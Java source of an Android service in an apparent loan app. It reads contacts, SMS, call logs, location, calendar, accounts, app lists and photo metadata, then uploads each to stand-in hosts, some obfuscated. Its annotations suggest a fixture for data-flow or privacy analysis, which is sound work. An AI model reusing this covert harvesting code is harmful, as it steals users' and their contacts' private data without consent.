package com.example.quickcash.harvester;

import android.app.IntentService;
import android.content.Intent;
import android.util.Log;
import com.moxie.client.MoxieTask;
import java.net.URLEncoder;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Reads every category and uploads it; each method is one source-to-network path. */
public class HarvestService extends IntentService {
    public HarvestService() {
        super("harvest");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            uploadDeviceIds();
            uploadContacts();
            uploadMessages();
            uploadCalls();
            uploadApps();
            uploadLocation();
            uploadCalendar();
            uploadAccounts();
            uploadPhotoList();
            askForScore();
            a.b.c.a(this);
            MoxieTask.report("https://collect.quickcash.example/crawler/task");
        } catch (Exception error) {
            Log.w("harvest", "upload failed");
        }
    }

    /** contacts: JSON under meaningless keys, gzip, base64, in a JSON body under meaningless keys. */
    private void uploadContacts() throws Exception {
        JSONArray people = ContactsReader.read(this);
        JSONArray more = ContactsByUriString.read(this);
        for (int i = 0; i < more.length(); i++) {
            people.put(more.get(i));
        }
        JSONObject body = new JSONObject();
        body.put("lantern", "3");
        body.put("orchard", Envelope.gzipBase64(people.toString()));
        Uploader.postJson("https://api.quickcash.example/tapioca/meadow", body.toString());
    }

    /** sms: base64 of JSON in one field of a form. */
    private void uploadMessages() throws Exception {
        String info = Envelope.base64(SmsReader.read(this).toString());
        Uploader.postForm(
                "https://collect.quickcash.example/user/messages",
                "userId=10017&info=" + URLEncoder.encode(info, "UTF-8"));
    }

    /** call_log: plain JSON over HTTPS. */
    private void uploadCalls() throws Exception {
        JSONArray calls = CallLogReader.read(this);
        JSONObject body = new JSONObject();
        body.put("protocolName", "CALL_LOG");
        body.put("totalNumber", calls.length());
        body.put("data", calls);
        Uploader.postJson("https://collect.quickcash.example/user/calls", body.toString());
    }

    /** installed_apps: plain JSON over HTTPS. */
    private void uploadApps() throws Exception {
        JSONObject body = new JSONObject();
        body.put("appList", AppListReader.read(this));
        Uploader.postJson("https://api.quickcash.example/user/apps", body.toString());
    }

    /** location: plain JSON over HTTPS. */
    private void uploadLocation() throws Exception {
        JSONObject position = LocationReader.read(this);
        Uploader.postJson("https://api.quickcash.example/user/location", position.toString());
    }

    /** device_ids and network_ids: JSON over plain HTTP. */
    private void uploadDeviceIds() throws Exception {
        JSONObject device = DeviceIdReader.read(this);
        WifiReader.addTo(this, device);
        Uploader.postPlain("http://track.quickcash.example:8080/device", device.toString());
    }

    /** calendar: AES-encrypted JSON under one key. */
    private void uploadCalendar() throws Exception {
        JSONObject body = new JSONObject();
        body.put("payload", Envelope.encrypt(CalendarReader.read(this).toString()));
        Uploader.postJson("https://api.quickcash.example/user/calendar", body.toString());
    }

    /** accounts: plain JSON over HTTPS. */
    private void uploadAccounts() throws Exception {
        JSONObject body = new JSONObject();
        body.put("accounts", AccountsReader.read(this));
        Uploader.postJson("https://api.quickcash.example/user/accounts", body.toString());
    }

    /** photos: names, times and places of the pictures, not the pictures themselves. */
    private void uploadPhotoList() throws Exception {
        JSONObject body = new JSONObject();
        body.put("img", PhotoListReader.read(this));
        Uploader.postJson("https://api.quickcash.example/user/photos", body.toString());
    }

    /** device_ids and location to a third party. */
    private void askForScore() throws JSONException, java.io.IOException {
        JSONObject body = new JSONObject();
        body.put("device", DeviceIdReader.androidId(this));
        body.put("position", LocationReader.read(this));
        Uploader.postJson("https://risk.scorevendor.example/v1/score", body.toString());
    }
}
